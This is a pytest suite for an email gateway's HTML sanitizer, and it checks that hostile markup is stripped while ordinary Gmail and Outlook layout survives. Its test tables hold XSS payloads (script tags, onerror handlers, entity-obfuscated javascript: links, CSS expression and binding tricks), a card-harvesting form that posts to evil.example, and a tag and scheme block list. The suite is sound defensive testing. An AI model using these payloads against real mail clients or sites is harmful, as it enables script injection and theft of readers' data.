"""Hostile HTML in, safe HTML out: what is removed, what is kept, and that it never raises."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest

from gateway.mail.sanitize import (
    ATTRIBUTES,
    TAGS,
    BASE,
    BLOCKED_IMAGE_TEXT,
    CONDITIONAL_COMMENT,
    DATA_LINK,
    EMBEDDED,
    EVENT_HANDLER,
    FORM,
    FRAME,
    LINK_REL,
    META_REFRESH,
    SCRIPT,
    SCRIPT_LINK,
    STYLE_ELEMENT,
    STYLESHEET,
    SVG,
    TOO_DEEP,
    UNSAFE_STYLE,
    SanitizedHtml,
    sanitize_html,
)

# No markup of these may reach a reader, whatever the input (checked lower-cased).
NEVER = ("<script", "<style", "<iframe", "<frame", "<object", "<embed", "<form", "<input", "<button",
         "<textarea", "<select", "<svg", "<math", "<meta", "<base", "<link", "<noscript", "<body", "<html")


class _Markup(HTMLParser):
    """Every (tag, attribute, value) of an output, read as a browser would."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes.extend((tag, name, value or "") for name, value in attrs)


def assert_safe(html: str) -> None:
    """Only allowed tags, no handler, no script URL, no remote or CSS trickery in an attribute."""
    lowered = html.lower()
    for bad in NEVER:
        assert bad not in lowered, bad
    markup = _Markup(html)
    assert markup.tags <= TAGS, markup.tags - TAGS
    for tag, name, value in markup.attributes:
        assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"rel", "target"}, (tag, name)
        squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
        for bad in ("javascript:", "vbscript:", "expression(", "evil.example"):
            assert bad not in squeezed, (tag, name, value)

HOSTILE = [
    # id, html, notes expected in `removed`, text that must survive
    ("script", "<p>Hi</p><script>alert(1)</script>", {SCRIPT}, "<p>Hi</p>"),
    ("script-src", '<script src="http://evil.example/x.js"></script>ok', {SCRIPT}, "ok"),
    ("mixed-case-script", "<ScRiPt>alert(1)</sCrIpT><P>Hi</P>", {SCRIPT}, "<p>Hi</p>"),
    ("img-onerror", '<img src="x" onerror="alert(1)">', {EVENT_HANDLER}, f'alt="{BLOCKED_IMAGE_TEXT}"'),
    ("img-onerror-cid", '<img src="cid:logo" onerror="alert(1)" alt="Logo">', {EVENT_HANDLER}, 'src="cid:logo"'),
    ("body-onload", '<body onload="alert(1)"><p>Hi</p></body>', {EVENT_HANDLER}, "<p>Hi</p>"),
    ("p-onmouseover", '<p onmouseover="alert(1)" ONCLICK="x()">Hi</p>', {EVENT_HANDLER}, "<p>Hi</p>"),
    ("a-javascript", '<a href="javascript:alert(1)">click</a>', {SCRIPT_LINK}, ">click</a>"),
    ("a-javascript-tab-entity", '<a href="jav&#x09;ascript:alert(1)">click</a>', {SCRIPT_LINK}, ">click</a>"),
    ("a-javascript-newline-entity", '<a href="java&#10;script:alert(1)">click</a>', {SCRIPT_LINK}, ">click</a>"),
    ("a-javascript-decimal-entities", '<a href="&#106;&#97;&#118;&#97;script:alert(1)">click</a>', {SCRIPT_LINK}, "click"),
    ("a-javascript-leading-space", '<a href="  javascript:alert(1)">click</a>', {SCRIPT_LINK}, "click"),
    ("a-javascript-upper", '<A HREF="JAVASCRIPT:alert(1)">click</A>', {SCRIPT_LINK}, "click"),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">click</a>', {SCRIPT_LINK}, "click"),
    ("a-data", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>', {DATA_LINK}, "click"),
    ("svg-onload", '<svg onload="alert(1)"><circle r="4"/></svg>after', {SVG, EVENT_HANDLER}, "after"),
    ("svg-script", "<svg><script>alert(1)</script></svg>after", {SVG}, "after"),
    ("math-xlink", '<math><mi xlink:href="javascript:alert(1)">x</mi></math>after', set(), "after"),
    ("css-expression", '<div style="width: expression(alert(1)); color: red">x</div>', {UNSAFE_STYLE}, 'style="color:red"'),
    ("css-url-javascript", '<div style="background: url(javascript:alert(1))">x</div>', {UNSAFE_STYLE}, "<div>x</div>"),
    ("css-escaped-url", r'<div style="background: u\72 l(http://evil.example/x)">x</div>', {UNSAFE_STYLE}, "<div>x</div>"),
    ("css-behavior", '<div style="behavior: url(evil.htc)">x</div>', {UNSAFE_STYLE}, "<div>x</div>"),
    ("css-moz-binding", '<div style="-moz-binding: url(http://evil.example/x.xml#y)">x</div>', {UNSAFE_STYLE}, "<div>x</div>"),
    ("style-element", "<style>@import url(http://evil.example/s.css); p{color:red}</style><p>x</p>", {STYLE_ELEMENT}, "<p>x</p>"),
    ("form", '<form action="http://evil.example/steal" method="post">Card <input name="card">'
             '<button>Send</button><textarea>t</textarea><select><option>o</option></select></form>',
     {FORM}, "Card"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=http://evil.example/">Hi', {META_REFRESH}, "Hi"),
    ("base-href", '<base href="http://evil.example/"><a href="login">Log in</a>', {BASE}, "Log in</a>"),
    ("link-stylesheet", '<link rel="stylesheet" href="http://evil.example/s.css">Hi', {STYLESHEET}, "Hi"),
    ("iframe", '<iframe src="http://evil.example/"></iframe>Hi', {FRAME}, "Hi"),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>Hi', {FRAME}, "Hi"),
    ("object-embed", '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/y">Hi',
     {EMBEDDED}, "Hi"),
    ("conditional-comment", "<!--[if mso]><a href=\"http://evil.example/\">x</a><![endif]--><p>Hi</p>",
     {CONDITIONAL_COMMENT}, "<p>Hi</p>"),
    ("downlevel-revealed", "<![if !mso]><p>Hi</p><![endif]>", set(), "<p>Hi</p>"),
    ("comment-hiding-script", "<!-- --><script>alert(1)</script><!-- -->Hi", {SCRIPT}, "Hi"),
    ("nested-malformed", "<div><b><i>one<p>two</div></b><scr<script>ipt>alert(1)</script>", set(), "two"),
    ("unclosed-attribute", '<a href="https://shop.example/x onclick="alert(1)">x</a>', set(), "x"),
    ("noscript", "<noscript><img src=x onerror=alert(1)></noscript>Hi", set(), "Hi"),
    ("null-bytes", "<scr\x00ipt>alert(1)</script><p>Hi\x00</p>", set(), "Hi"),
]


@pytest.mark.parametrize("html, notes, kept", [case[1:] for case in HOSTILE], ids=[case[0] for case in HOSTILE])
def test_hostile_html_is_neutralised(html, notes, kept):
    result = sanitize_html(html)
    assert_safe(result.html)
    assert notes <= set(result.removed)
    assert kept in result.html


LINKS = [
    # href, kept
    ("http://shop.example/a", True),
    ("https://shop.example/orders?id=1&lang=en", True),
    ("mailto:support@shop.example?subject=Refund", True),
    ("tel:+33123456789", True),
    ("HTTPS://SHOP.EXAMPLE/", True),
    ("javascript:alert(1)", False),
    ("vbscript:x", False),
    ("data:text/html,<script>alert(1)</script>", False),
    ("data:image/png;base64,iVBORw0KGgo=", False),
    ("cid:part1", False),
    ("file:///etc/passwd", False),
    ("ftp://files.example/a", False),
    ("#section", False),  # relative: a relayed mail has no base
    ("//evil.example/x", False),
    ("login.php", False),
]


@pytest.mark.parametrize("href, kept", LINKS)
def test_links_keep_safe_schemes_and_open_apart(href, kept):
    result = sanitize_html(f'<a href="{href.replace("&", "&amp;")}">go</a>')
    assert ("href=" in result.html) is kept
    assert f'rel="{LINK_REL}"' in result.html
    assert 'target="_blank"' in result.html
    assert result.html.endswith(">go</a>")


IMAGES = [
    # id, html, block, blocked count, must contain, must not contain
    ("remote-blocked", '<img src="https://cdn.shop.example/logo.png" alt="Logo" width="120">', True, 1,
     '<img alt="Logo">', "cdn.shop.example"),
    ("remote-no-alt", '<img src="http://cdn.shop.example/a.png">', True, 1, f'alt="{BLOCKED_IMAGE_TEXT}"', "src="),
    ("remote-blank-alt", '<img src="http://cdn.shop.example/a.png" alt=" ">', True, 1, BLOCKED_IMAGE_TEXT, "src="),
    ("remote-allowed", '<img src="https://cdn.shop.example/logo.png" alt="Logo">', False, 0,
     'src="https://cdn.shop.example/logo.png"', BLOCKED_IMAGE_TEXT),
    ("srcset-blocked", '<img src="cid:a" srcset="https://cdn.shop.example/a2.png 2x" alt="A">', True, 1,
     '<img alt="A">', "cdn.shop.example"),
    ("srcset-javascript", '<img src="cid:a" srcset="javascript:alert(1) 2x">', True, 0, 'src="cid:a"', "srcset"),
    ("cid", '<img src="cid:ii_abc123" alt="photo" width="320">', True, 0, 'src="cid:ii_abc123"', BLOCKED_IMAGE_TEXT),
    ("data-png", '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">', True, 0, 'src="data:image/png', "alt=\"["),
    ("data-svg", '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="s">', True, 1, '<img alt="s">', "data:"),
    ("javascript-src", '<img src="javascript:alert(1)" alt="j">', True, 1, '<img alt="j">', "javascript"),
    ("protocol-relative", '<img src="//evil.example/x.png" alt="p">', True, 1, '<img alt="p">', "evil.example"),
    ("background-attr", '<table background="http://evil.example/bg.png"><tr><td>x</td></tr></table>', True, 1,
     "<table>", "evil.example"),
    ("background-attr-cid", '<table><tr><td background="cid:bg">x</td></tr></table>', True, 0,
     'background="cid:bg"', BLOCKED_IMAGE_TEXT),
    ("background-attr-javascript", '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>', True, 0,
     "<table>", "javascript"),
    ("css-url-blocked", '<div style="background:url(http://evil.example/bg.png) #fff;color:red">x</div>', True, 1,
     'style="color:red"', "evil.example"),
    ("css-url-allowed", '<div style="background-image:url(https://cdn.shop.example/bg.png)">x</div>', False, 0,
     "cdn.shop.example/bg.png", "zzz"),
    ("css-url-cid", "<div style=\"background:url('cid:bg') no-repeat\">x</div>", True, 0, "cid:bg", "zzz"),
    ("css-image-set", "<div style=\"background:image-set('http://evil.example/a.png' 1x)\">x</div>", False, 0,
     "<div>x</div>", "evil.example"),
]


@pytest.mark.parametrize("html, block, blocked, present, absent",
                         [case[1:] for case in IMAGES], ids=[case[0] for case in IMAGES])
def test_images(html, block, blocked, present, absent):
    result = sanitize_html(html, block_remote_images=block)
    assert result.blocked_images == blocked
    assert present in result.html
    assert absent not in result.html


TRACKING_PIXELS = [
    ('<img src="https://t.mailtrack.example/o.gif" width="1" height="1" alt="">', True),
    ('<img src="https://t.mailtrack.example/o.gif" width="1px" height="1px" border="0">', True),
    ('<img src="https://t.mailtrack.example/o.gif" style="width:1px;height:1px;display:block">', True),
    ('<img src="https://t.mailtrack.example/o.gif" width="0">', True),
    ('<img src="https://t.mailtrack.example/o.gif" style="display: none">', True),
    ('<img src="https://t.mailtrack.example/o.gif" width="1" height="40">', False),  # a rule, not a pixel
]


@pytest.mark.parametrize("block", [True, False])
@pytest.mark.parametrize("html, is_pixel", TRACKING_PIXELS)
def test_tracking_pixels_are_removed_and_counted_even_when_images_are_allowed(html, is_pixel, block):
    result = sanitize_html(f"<p>Hi</p>{html}", block_remote_images=block)
    if is_pixel:
        assert result.html == "<p>Hi</p>"
        assert result.blocked_images == 1
    else:
        assert ("mailtrack" in result.html) is not block
        assert result.blocked_images == (1 if block else 0)


def test_a_one_pixel_inline_image_is_not_a_tracker():
    result = sanitize_html('<img src="cid:spacer" width="1" height="1">')
    assert result.html == '<img src="cid:spacer" width="1" height="1">'
    assert result.blocked_images == 0


STYLES = [
    # inline style in, style attribute out (None: no attribute left)
    ("color:red", "color:red"),
    ("COLOR: Red; Font-Family: Arial", "color:Red;font-family:Arial"),
    ("margin:0 auto;padding:0cm 5.4pt", "margin:0 auto;padding:0cm 5.4pt"),
    ("color:rgb(10, 20, 30);background:linear-gradient(#fff, #000)",
     "color:rgb(10, 20, 30);background:linear-gradient(#fff, #000)"),
    ("border-collapse:collapse;width:450.0pt", "border-collapse:collapse;width:450.0pt"),
    ("position:fixed;top:0;left:0;z-index:9999", None),  # could lay the mail over the webmail
    ("content:'x'", None),
    ("list-style-image:url(http://evil.example/i.png)", None),
    ("color:red;/* x */background:blue", "color:red"),
    ("background:url(http://evil.example/x.png", None),
]


@pytest.mark.parametrize("style, expected", STYLES)
def test_inline_style_is_kept_from_an_allow_list(style, expected):
    html = sanitize_html(f'<p style="{style}">x</p>', block_remote_images=False).html
    assert html == (f'<p style="{expected}">x</p>' if expected else "<p>x</p>")


GMAIL = (
    '<div dir="ltr"><div>Hi,</div><div><br></div><div>The box:</div>'
    '<div><img src="cid:ii_m1a2b3c40" alt="box.png" width="320" height="240" style="margin-right:0px"><br></div>'
    '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Tue, Shop wrote:<br></div>'
    '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);'
    'padding-left:1ex">Please send a photo.</blockquote></div>'
    '<img src="https://ci3.googleusercontent.com/meips/sig.png" alt="Carol" width="96"></div>'
)
OUTLOOK = (
    '<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta http-equiv="Content-Type" '
    'content="text/html; charset=utf-8"><style><!-- p.MsoNormal {margin:0cm;} --></style></head>'
    '<body lang="EN-GB" link="#0563C1"><div class="WordSection1">'
    '<table border="0" cellspacing="0" cellpadding="0" width="600" style="width:450.0pt;border-collapse:collapse">'
    '<tr><td valign="top" bgcolor="#F2F2F2" style="padding:0cm 5.4pt 0cm 5.4pt">'
    '<p class="MsoNormal"><span style="font-size:12.0pt;color:#1F3864">Dear Carol,</span></p>'
    '<p class="MsoNormal"><a href="https://shop.example/refunds/4471">your refund</a> or '
    '<a href="tel:+441234567890">call us</a></p></td></tr></table>'
    '<p class="MsoNormal"><o:p>&nbsp;</o:p></p>'
    '<img src="https://t.mailtrack.example/open/a8f3.gif" width="1" height="1" alt=""></div></body></html>'
)
REAL = [
    # id, html, blocked images, kept fragments, removed fragments
    ("gmail", GMAIL, 1,
     ['src="cid:ii_m1a2b3c40"', 'alt="Carol"', "border-left:1px solid rgb(204, 204, 204)", "Please send a photo."],
     ["googleusercontent", "class="]),
    ("outlook", OUTLOOK, 1,
     ['cellpadding="0"', "border-collapse:collapse", 'bgcolor="#F2F2F2"', 'href="https://shop.example/refunds/4471"',
      'href="tel:+441234567890"', "color:#1F3864", "Dear Carol,"],
     ["mailtrack", "MsoNormal", "<o:p", "<style"]),
]


@pytest.mark.parametrize("html, blocked, kept, gone", [case[1:] for case in REAL], ids=[case[0] for case in REAL])
def test_real_mail_keeps_its_layout(html, blocked, kept, gone):
    result = sanitize_html(html)
    assert result.blocked_images == blocked
    for fragment in kept:
        assert fragment in result.html, fragment
    for fragment in gone:
        assert fragment not in result.html, fragment


MALFORMED = [
    "",
    "   ",
    "plain text, no tags & an ampersand < and >",
    "<",
    "<<<<<<<<<<" * 1000,
    "<!--",
    "<!--" + "a" * 100_000,
    "<![CDATA[" * 20_000,
    "<a " + "x=1 " * 20_000 + ">",
    "\ud800<p>lone surrogate</p>",
    "\x00\x01\x02<p>\x00</p>",
    "<div>" * 100_000 + "deep",
    "<ul><li>" * 20_000,
    "<table><tr>" + "<td>cell" * 20_000,
    '<img alt="' + "<![CDATA[" * 20_000 + '" src="cid:x">',
    "<p style='" + "a:b;" * 20_000 + "'>x</p>",
]


@pytest.mark.parametrize("html", MALFORMED, ids=lambda html: repr(html[:24]))
def test_never_raises_and_stays_fast(html):
    started = time.monotonic()
    result = sanitize_html(html)
    assert isinstance(result, SanitizedHtml) and isinstance(result.html, str)
    assert time.monotonic() - started < 2
    assert_safe(result.html)


def test_deep_nesting_is_relayed_as_text():
    result = sanitize_html("<div>" * 100_000 + "<script>alert(1)</script>deep")
    assert result.removed == (TOO_DEEP,)
    assert "deep" in result.html and "<script" not in result.html


@pytest.mark.parametrize("html", [case[1] for case in HOSTILE] + [GMAIL, OUTLOOK] + [case[1] for case in IMAGES])
def test_sanitising_twice_changes_nothing(html):
    once = sanitize_html(html).html
    assert sanitize_html(once).html == once
    assert_safe(once)


def test_removed_lists_each_kind_once_in_order():
    result = sanitize_html("<script>a</script><p onclick=x>b</p><script>c</script><img src=x onerror=y>")
    assert result.removed == (SCRIPT, EVENT_HANDLER)


def test_text_is_escaped_not_interpreted():
    result = sanitize_html("<p>&lt;script&gt;alert(1)&lt;/script&gt; 5 &gt; 3 &amp; caf\u00e9</p>")
    assert result.html == "<p>&lt;script&gt;alert(1)&lt;/script&gt; 5 &gt; 3 &amp; caf\u00e9</p>"
    assert not re.search(r"<script", result.html)
